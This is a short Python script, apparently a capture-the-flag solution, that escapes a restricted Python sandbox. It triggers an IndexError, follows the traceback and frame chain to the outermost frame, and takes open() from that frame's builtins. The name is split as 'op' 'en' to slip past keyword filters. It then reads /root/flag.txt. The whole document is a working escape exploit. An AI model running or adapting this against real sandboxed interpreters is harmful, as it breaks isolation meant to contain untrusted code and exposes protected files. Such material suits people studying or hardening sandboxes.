# Provokes an IndexError inside a helper, follows the traceback to the
# innermost frame and then up to the outermost one; that frame's builtins
# provide open() even if this module's builtins were stripped.
def oops():
    return [][1]


try:
    oops()
except IndexError as e:
    tb = e.__traceback__

while tb.tb_next:
    tb = tb.tb_next
fr = tb.tb_frame
while fr.f_back is not None:
    fr = fr.f_back
rd = fr.f_builtins['op' 'en']
with rd('/root/flag.txt') as fh:
    print(fh.read())
